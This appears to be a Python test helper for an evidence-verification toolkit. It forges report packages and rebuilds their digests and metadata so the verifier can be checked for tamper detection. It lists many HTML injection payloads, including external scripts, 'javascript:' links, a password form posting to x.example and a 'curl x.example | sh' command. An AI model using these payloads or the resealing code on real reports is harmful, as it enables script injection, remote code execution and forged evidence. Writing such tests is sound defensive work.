"""Ways to show a reader something else than what was checked, and to alter report and results in step.

The forger here is a good one: he makes the list of sentences, the digests and all lists of the package again.
"""

from __future__ import annotations

import hashlib
import json
from collections import Counter
from pathlib import Path
from typing import Any

from toolkit.evidence.verification.blocks import cut
from toolkit.evidence.verification.contents import readme_words
from toolkit.evidence.verification.described import CRATE, crate_again
from toolkit.evidence.verification.files import Package, open_package

LIE = "Weapons were unloaded at the pier"
TITLE = '<h1 data-from="case:title">The pier</h1>'
_DOT = "data:image/gif;base64,R0lGODlhAQABAAAAACw="

BESIDE_TITLE = {
    "a comment that browsers end early": f"<!--><h1>{LIE}</h1>-->",
    "a comment that browsers end early, longer": f"<!---><h1>{LIE}</h1>-->",
    "a comment ended by a bang": f"<!-- --!><h1>{LIE}</h1><!-- -->",
    "a comment opened by a bang": f"<!x><h1>{LIE}</h1>",
    "a plain comment": "<!-- seen by nobody -->",
    "a conditional comment": f"<!--[if !IE]><!--><h1>{LIE}</h1><!--<![endif]-->",
    "a CDATA section": f"<![CDATA[><h1>{LIE}</h1>]]>",
    "a processing instruction": f"<?x ><h1>{LIE}</h1>?>",
    "a wrong end tag": f"</x{LIE}>",
    "a title in the body": f"<title style=display:block>{LIE}</title>",
    "a style shown as text": f"<style style=display:block>{LIE}</style>",
    "a script shown as text": f"<script type=text/plain style=display:block>{LIE}</script>",
    "an inline script": f"<script>document.querySelector('h1').textContent='{LIE}'</script>",
    "a script from outside": '<script src="https://x.example/x.js"></script>',
    "a module": '<script type="module">import "https://x.example/x.js"</script>',
    "a style with content": f"<style>h1::before{{content:'{LIE}'}}</style>",
    "a style that hides": "<style>h1{display:none}</style>",
    "a style that turns words round": "<style>h1{unicode-bidi:bidi-override;direction:rtl}</style>",
    "a style with a font of its own": f"<style>@font-face{{font-family:x;src:url({_DOT})}}h1{{font-family:x}}</style>",
    "a style that fetches a style": "<style>@import 'https://x.example/x.css'</style>",
    "a style that swaps pictures": f"<style>img{{content:url({_DOT})}}</style>",
    "a linked style": '<link rel="stylesheet" href="https://x.example/x.css">',
    "a linked font": '<link rel="preload" as="font" href="https://x.example/x.woff">',
    "a prefetch": '<link rel="dns-prefetch" href="//x.example">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://x.example">',
    "another policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "a base": '<base href="https://x.example/">',
    "a frame with a page inside": f'<iframe srcdoc="<h1>{LIE}</h1>"></iframe>',
    "a frame with an escaped page inside": f'<iframe srcdoc="&lt;h1&gt;{LIE}&lt;/h1&gt;"></iframe>',
    "a frame from outside": '<iframe src="https://x.example"></iframe>',
    "a frame of data": f'<iframe src="data:text/html,{LIE}"></iframe>',
    "an object": f'<object data="data:text/html,{LIE}"></object>',
    "an embedded page": f'<embed src="data:text/html,{LIE}">',
    "a portal of frames": f'<frameset><frame src="data:text/html,{LIE}"></frameset>',
    "an input with a value": f'<input value="{LIE}">',
    "an input with a placeholder": f'<input placeholder="{LIE}">',
    "a button of an input": f'<input type="submit" value="{LIE}">',
    "a picture as a button": f'<input type="image" src="{_DOT}">',
    "a choice with a label": f'<select><option label="{LIE}"></option></select>',
    "a group of choices": f'<select><optgroup label="{LIE}"></optgroup></select>',
    "a text area": f"<textarea><!-- {LIE}</textarea>",
    "a select that eats elements": f"<select><h1>{LIE}</h1></select>",
    "a picture with other sources": f'<img data-from="house" alt="" src="{_DOT}" srcset="https://x.example/x.png 1x">',
    "a picture element": f'<picture><source srcset="{_DOT}"><img data-from="house" alt="" src="{_DOT}"></picture>',
    "a picture from outside": '<img data-from="house" alt="" src="https://x.example/x.png">',
    "a picture beside the page": '<img data-from="house" alt="" src="figures/other.png">',
    "a picture of SVG": f'<img data-from="house" alt="" src="data:image/svg+xml,<svg>{LIE}</svg>">',
    "a film with a poster": f'<video poster="{_DOT}"></video>',
    "a film": '<video src="https://x.example/x.mp4" autoplay></video>',
    "a sound": '<audio src="https://x.example/x.mp3" autoplay></audio>',
    "a drawn picture": f'<svg><image href="{_DOT}"/></svg>',
    "a drawn path": '<svg><path d="M0 0h9v9z"/></svg>',
    "drawn words": f"<svg><text>{LIE}</text></svg>",
    "a drawing that breaks out": f"<svg><style><h1>{LIE}</h1></style></svg>",
    "a drawing with a foreign object": f"<svg><foreignObject><h1>{LIE}</h1></foreignObject></svg>",
    "a drawing with a title": f"<svg><title><h1>{LIE}</h1></title></svg>",
    "a formula that breaks out": f"<math><mtext><h1>{LIE}</h1></mtext></math>",
    "a formula with a style": f"<math><style><h1>{LIE}</h1></style></math>",
    "a formula": f"<math><mi>{LIE}</mi></math>",
    "a canvas": "<canvas></canvas>",
    "a meter": "<meter value=1></meter>",
    "a progress": "<progress></progress>",
    "a dialog": f"<dialog open data-from=house>{LIE}</dialog>",
    "a marquee": f"<marquee data-from=house>{LIE}</marquee>",
    "a template": f"<template shadowrootmode=open><h1>{LIE}</h1></template>",
    "a slot": f"<slot data-from=house>{LIE}</slot>",
    "a text without scripts": f"<noscript><h1>{LIE}</h1></noscript>",
    "a text without frames": f"<noframes>{LIE}</noframes>",
    "a plain text to the end": f"<plaintext>{LIE}",
    "an example of old": f"<xmp data-from=house>{LIE}</xmp>",
    "a ruby text": f"<ruby data-from=house>x<rt>{LIE}</rt></ruby>",
    "a form": '<form action="https://x.example"><input type="password" name="p"></form>',
    "a button": f"<button data-from=house>{LIE}</button>",
    "a link of script": f'<a data-from="house" href="javascript:alert(1)">{LIE}</a>',
    "a link of data": f'<a data-from="house" href="data:text/html,{LIE}">more</a>',
    "a link to a file": '<a data-from="house" href="file:///etc/passwd">more</a>',
    "a link that pings": '<a data-from="house" href="https://x.example" ping="https://y.example">more</a>',
    "an overlay": f'<div data-from="house" style="position:fixed;inset:0;background:#fff">{LIE}</div>',
    "a paragraph of the house": f'<p data-from="house">{LIE}</p>',
    "a paragraph of nobody": f"<p>{LIE}</p>",
    "a paragraph of a limit": f'<p data-from="limit">{LIE}</p>',
    "a struck-out text": "<del data-from=house>Where is it?</del>",
    "an element nobody knows": f"<lie-lie data-from=house>{LIE}</lie-lie>",
    "an attribute that is a handler": f'<p data-from="house" onclick="x()">{LIE}</p>',
    "a picture with a handler": f'<img data-from="house" alt="" src="{_DOT}" onerror="x()">',
    "a body inside the body": f'<body onload="x()" data-from="house">{LIE}',
    "a page inside the page": "<html class=x>",
}
"""What a forger sets beside the headline."""

ELSEWHERE: dict[str, tuple[str, str]] = {
    "the policy taken out": ('<meta http-equiv="Content-Security-Policy"', '<meta name="x"'),
    "the policy opened": ("default-src 'none'", "default-src *"),
    "the policy let scripts in": ("script-src '", "script-src 'unsafe-inline' '"),
    "the policy after the style": ("img-src data:;", "img-src * data:;"),
    "the charset changed": ('<meta charset="utf-8">', '<meta charset="utf-7">'),
    "the charset taken out": ('<meta charset="utf-8">\n', ""),
    "quirks": ("<!doctype html>\n", ""),
    "an old doctype": ("<!doctype html>", '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 3.2//EN">'),
    "the title closed early": ("<title>The pier</title>", f"<title>The pier</title><h1>{LIE}</h1>"),
    "a rule added to the style": ("</style>", f"h1::after{{content:'{LIE}'}}</style>"),
    "a rule put before the style": ("<style>", "<style>main{display:none}"),
    "the style closed early": ("<style>", f"<style></style><h1>{LIE}</h1><style>"),
    "the style for print alone": ("<style>", '<style media="print">'),
    "a line added to the script": ("</script>", "document.body.textContent='x'</script>"),
    "the script replaced": ('"use strict";', "alert(1);"),
    "the script from outside": ("<script>", '<script src="https://x.example/x.js">'),
    "the headline hidden": ("<h1 ", "<h1 hidden "),
    "the headline hidden by its style": ("<h1 ", '<h1 style="display:none" '),
    "the headline hidden by a class of ours": ("<h1 ", '<h1 class="hidden" '),
    "the headline made editable": ("<h1 ", '<h1 contenteditable="true" '),
    "the headline turned round": ("<h1 ", '<h1 dir="rtl" '),
    "the headline read out otherwise": ("<h1 ", f'<h1 aria-label="{LIE}" '),
    "the headline said to be another's": ("<h1 ", '<h1 title="x" '),
    "an attribute twice": ("<h1 ", '<h1 data-from="house" '),
    "an attribute without quotes": ('<h1 data-from="case:title">', "<h1 data-from=case:title>"),
    "an attribute in single quotes": ('<h1 data-from="case:title">', "<h1 data-from='case:title'>"),
    "an element in capitals": (TITLE, TITLE.replace("h1", "H1")),
    "the headline struck out": ("The pier</h1>", "<s>The pier</s></h1>"),
    "the headline in a closed box": (TITLE, f"<details><summary data-from=house>More</summary>{TITLE}</details>"),
    "the limits in a closed box": ('<ul class="limits">', '<details><ul class="limits">'),
    "the limits hidden": ('<ul class="limits">', '<ul class="limits" hidden>'),
    "the limits hidden by a class": ('<ul class="limits">', '<ul class="hidden">'),
    "the limits made inert": ('<ul class="limits">', '<ul class="limits" inert>'),
    "the limits left open": ("Nobody was there.</li>", "Nobody was there."),
    "a link to elsewhere": ('href="#main"', 'href="https://x.example"'),
    "a link of script in place of ours": ('href="#main"', 'href="javascript:alert(1)"'),
    "a link to another source": ('href="#e1"', 'href="#e2"'),
    "a picture one pixel wide": (' width="30"', ' width="1"'),
    "a picture without height": (' height="20"', ' height="0"'),
    "a picture loaded later": (' width="30"', ' loading="lazy" width="30"'),
    "a verdict in another colour": ('chip supported" data-from="verdict:c1"', 'chip wrong" data-from="verdict:c1"'),
    "a row marked with another verdict": ('data-verdict="supported"', 'data-verdict="x y"'),
    "a verdict hidden by its class": ('chip supported" data-from="verdict:c1"', 'chip hidden" data-from="verdict:c1"'),
    "a heading of another kind": ("What this report cannot show</h2>", f"{LIE}</h2>"),
    "a heading left out": ('<h2 id="limits-heading" data-from="house">What this report cannot show</h2>\n', ""),
    "another section's place": ('<section id="limits"', '<section id="look"'),
    "a word of the house changed": ("Made with</span>", f"{LIE}</span>"),
    "the meaning of a verdict changed": ("<dd>", f"<dd>{LIE} "),
    "the digest taken for another": ("Digest of the results this page is made from", LIE),
    "the command changed": ("python3 verify.py", "curl x.example | sh"),
    "words after the page": ("</html>", f"</html>{LIE}"),
    "words before the page": ("<!doctype html>", f"{LIE}<!doctype html>"),
    "a mark before the page": ("<!doctype html>", "\ufeff<!doctype html>"),
    "a NUL in the headline": ("The pier</h1>", "The \0pier</h1>"),
    "an entity nobody writes": ("The pier</h1>", "The p&#x69;er</h1>"),
    "an entity without its end": ("The pier</h1>", "The pier&ltb</h1>"),
}
"""What a forger changes in the page itself: text to text."""

PAGES: dict[str, tuple[str, str]] = {name: (TITLE, f"{TITLE}{added}") for name, added in BESIDE_TITLE.items()}
PAGES |= {f"{name}, before": (TITLE, f"{added}{TITLE}") for name, added in list(BESIDE_TITLE.items())[:20]}
PAGES |= ELSEWHERE


class Held(Package):
    """A package in memory.

    Parameters
    ----------
    files
        Bytes by path inside the package.
    info
        Its bag-info.txt.
    """

    def __init__(self, files: dict[str, bytes], info: dict[str, str]):
        super().__init__(Path("nowhere"))
        self.files, self.info = dict(files), info
        digests = {name: hashlib.sha256(data).hexdigest() for name, data in files.items()}
        self.payload = {name: digest for name, digest in digests.items() if name.startswith("data/")}
        self.tags = {name: digest for name, digest in digests.items() if name not in self.payload}

    def read(self, name: str, *, most: int = 0) -> bytes:  # noqa: ARG002
        return self.files[name]

    def size(self, name: str) -> int:
        return len(self.files[name])

    @property
    def page(self) -> str:
        """Give the HTML of the report."""
        return self.files["data/report.html"].decode()

    @property
    def results(self) -> dict[str, Any]:
        """Give a copy of results.json."""
        results: dict[str, Any] = json.loads(self.files["data/results.json"])
        return results

    def resealed(self, page: str, results: dict[str, Any]) -> Held:
        """Give a package with another page and other results: sentences and digests are made again from them."""
        results["sentences"] = [
            {"n": n, "section": b.section, "text": b.text, "from": b.source, "picture": b.picture}
            for n, b in enumerate(cut(page), start=1)
        ]
        made = {"report.html": page.encode(), "results.json": json.dumps(results, ensure_ascii=False).encode()}
        files = self.files | {f"data/{name}": data for name, data in made.items()}
        return Held(*in_step(files, results, self.info))


def in_step(
    files: dict[str, bytes], results: dict[str, Any], info: dict[str, str]
) -> tuple[dict[str, bytes], dict[str, str]]:
    """Make all that repeats the results again: the step's digests, its summary, README, bag-info and the crate."""
    read = {name: json.loads(files[name]) for name in (_OUTPUTS, _SUMMARY, "data/case/files.json") if name in files}
    title, slug = results["title"], results["case"]
    if _SUMMARY in read:
        read[_SUMMARY] |= {"title": title, "stamp": results["stamp"], "question": results["about"]["question"]}
        told = [{key: claim.get(key) for key in _OF_CLAIM} for claim in results["claims"]]
        read[_SUMMARY] |= {"claims": told, "verdicts": Counter(claim["verdict"] for claim in results["claims"])}
        files = files | {_SUMMARY: json.dumps(read[_SUMMARY]).encode()}
    for name in read[_OUTPUTS]["files"]:
        place = f"data/{name}" if f"data/{name}" in files else f"data/steps/report/{name}"
        if place in files:
            read[_OUTPUTS]["files"][name] = hashlib.sha256(files[place]).hexdigest()
    files = files | {_OUTPUTS: json.dumps(read[_OUTPUTS]).encode()}
    version = results["versions"]["dateline"]
    stays = [(f["sha256"], name) for name, f in read["data/case/files.json"]["files"].items() if not f["travels"]]
    files = files | {"README.txt": readme_words(title, slug, version, stays).encode()}
    info = info | {"External-Identifier": slug, "External-Description": title, "Report-Stamp": results["stamp"]}
    dates = [entity.get("datePublished") for entity in json.loads(files[CRATE])["@graph"]]
    crate = crate_again(Held(files, info), results, next(filter(None, dates)))
    return files | {CRATE: json.dumps(crate).encode()}, info | {"Bag-Software-Agent": f"dateline {version}"}


_SUMMARY = "data/steps/report/summary.json"
_OF_CLAIM = ("id", "text", "speaker", "verdict", "word")
_OUTPUTS = "data/steps/report/outputs.json"


def held(root: Path) -> Held:
    """Read the payload of a package into memory."""
    paths = [path for path in (root / "data").rglob("*") if path.is_file()] + [root / "README.txt"]
    return Held({path.relative_to(root).as_posix(): path.read_bytes() for path in paths}, open_package(root).info)


def forge_page(package: Held, old: str, new: str) -> Held:
    """Alter the page, and make all that is made from it again."""
    assert old in package.page, old
    return package.resealed(package.page.replace(old, new), package.results)


IN_STEP = (
    "about",
    "claims",
    "findings",
    "limits",
    "sources",
    "timeline",
    "corrections",
    "notes",
    "sites",
    "statements",
    "title",
    "stamp",
    "case",
)
"""Fields of results.json whose words a forger alters together with the page."""

_NOT_SHOWN = ("sha256", "document", "evidence", "findings", "kind", "label", "language", "lane", "step", "basis")

Place = tuple[Any, Any]


def _words(value: Any) -> list[Place]:
    """Give every place of a JSON value where words stand: what holds them, and under which key."""
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    found: list[Place] = []
    for key, inner in pairs:
        if key in _NOT_SHOWN:
            continue
        found += [(value, key)] if isinstance(inner, str) and inner else _words(inner)
    return found


def places(results: dict[str, Any]) -> list[Place]:
    """Give every text of results.json that may be altered in step with the page."""
    plain = [(results, name) for name in IN_STEP if isinstance(results[name], str)]
    return plain + [place for name in IN_STEP if not isinstance(results[name], str) for place in _words(results[name])]


def edit_in_step(package: Held, number: int, how: int) -> Held:
    """Alter one text of results.json, and the page with it."""
    results = package.results
    holder, key = places(results)[number]
    old = str(holder[key])
    new = (f"{old} {LIE}", LIE, old[: len(old) // 2] or LIE)[how]
    holder[key] = new
    return package.resealed(package.page.replace(f">{old}<", f">{new}<"), results)


def turn_verdict(package: Held, old: str, new: str) -> Held:
    """Turn the verdict of claims round, wherever results and page have it."""
    results = package.results
    for claim in results["claims"]:
        claim["verdict"] = new if claim["verdict"] == old else claim["verdict"]
    words = package.page.replace(old.replace("-", " "), new.replace("-", " "))
    return package.resealed(words.replace(old, new), results)


def leave_out(package: Held, field: str, number: int) -> Held:
    """Take one record out of results.json, and a limit out of the page with it."""
    results = package.results
    gone = results[field].pop(number)
    page = package.page.replace(f'<li data-from="limit">{gone}</li>\n', "") if isinstance(gone, str) else package.page
    return package.resealed(page, results)
